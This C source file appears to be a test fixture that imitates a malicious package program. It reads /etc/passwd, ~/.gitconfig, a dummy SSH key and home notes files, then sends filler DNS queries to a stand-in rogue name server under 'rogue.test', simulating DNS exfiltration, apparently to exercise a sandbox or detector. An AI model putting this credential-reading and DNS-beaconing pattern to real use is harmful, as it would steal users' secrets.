/* SPDX-License-Identifier: Apache-2.0
 *
 * The program that came with the package: reads who and where it is, files of the home directory, a
 * key, and sends what it found in the first labels of names, to a name server of its own.
 */
#include "twin.h"

static void look_at(const char *path)
{
	char buffer[256];
	int fd = open(path, O_RDONLY | O_CLOEXEC);

	if (fd < 0)
		return;
	if (read(fd, buffer, sizeof(buffer)) < 0)
		perror(path);
	close(fd);
}

/* One A query whose first label has 60 letters. */
static size_t query_make(unsigned char *query, int nth)
{
	static const char rest[] = "\x05rogue\x04test";
	size_t at = 12;

	memset(query, 0, 12);
	query[1] = (unsigned char)nth;
	query[2] = query[5] = 1;
	query[at++] = 60;
	memset(query + at, 'a' + nth % 26, 60);
	memcpy(query + at, "dummy", 5);
	at += 60;
	memcpy(query + at, rest, sizeof(rest));
	at += sizeof(rest);
	memcpy(query + at, "\0\1\0\1", 4);
	return at + 4;
}

int main(void)
{
	struct sockaddr_in server = { .sin_family = AF_INET };
	unsigned char query[128];
	char path[512];
	int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	look_at("/etc/resolv.conf");
	look_at("/etc/hosts");
	look_at("/etc/passwd");
	for (int i = 0; i < 20; i++) {
		snprintf(path, sizeof(path), "%s/notes.%d", twin_variable("HOME"), i);
		look_at(path);
	}
	snprintf(path, sizeof(path), "%s/.gitconfig", twin_variable("HOME"));
	look_at(path);
	snprintf(path, sizeof(path), "%s/.ssh/id_dummy", twin_variable("HOME"));
	look_at(path);
	server.sin_port = htons((unsigned short)atoi(twin_variable("DNS_PORT")));
	inet_pton(AF_INET, TWIN_ROGUE_DNS, &server.sin_addr);
	for (int i = 0; i < 40 && fd >= 0; i++) {
		if (sendto(fd, query, query_make(query, i), 0, (struct sockaddr *)&server,
			   sizeof(server)) < 0)
			return 1;
	}
	return 0;
}
